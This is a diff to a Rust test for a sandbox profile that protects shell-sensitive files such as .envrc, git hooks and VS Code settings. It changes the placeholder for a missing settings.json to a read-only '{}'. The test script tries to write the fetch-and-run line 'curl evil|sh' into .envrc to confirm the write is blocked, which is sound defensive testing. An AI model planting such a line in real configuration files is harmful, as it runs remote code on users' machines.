@@ -721,14 +721,14 @@ fn profile_applies_a_preset_to_a_plain_run() {
         &["--profile", "protect-shell", "--allow-write=."],
         "echo 'curl evil|sh' > .envrc 2>/dev/null && echo ENVRC-WRITTEN; \
          mkdir -p .git/hooks/x 2>/dev/null && echo HOOKS-WRITTEN; \
-         test -f .vscode/settings.json && ! test -s .vscode/settings.json && echo empty-file; \
+         test -f .vscode/settings.json && test \"$(cat .vscode/settings.json)\" = '{}' && echo json-file; \
          echo '{}' > .vscode/settings.json 2>/dev/null && echo VSCODE-WRITTEN; \
          echo ok > ok.txt && cat ok.txt",
     );
-    // A missing protected file (it has an extension) is held by an empty,
-    // read-only file, so programs that read it see an empty file, not a
-    // directory.
-    assert_eq!(r.stdout, "empty-file\nok\n", "{r:?}");
+    // A missing protected file (it has an extension) is held by a
+    // read-only file, so programs that read it see a file, not a
+    // directory: `{}` for JSON (empty is invalid JSON), else empty.
+    assert_eq!(r.stdout, "json-file\nok\n", "{r:?}");
     assert!(
         !p.join(".envrc").exists() && !p.join(".git").exists() && !p.join(".vscode").exists(),
         "placeholder left behind"
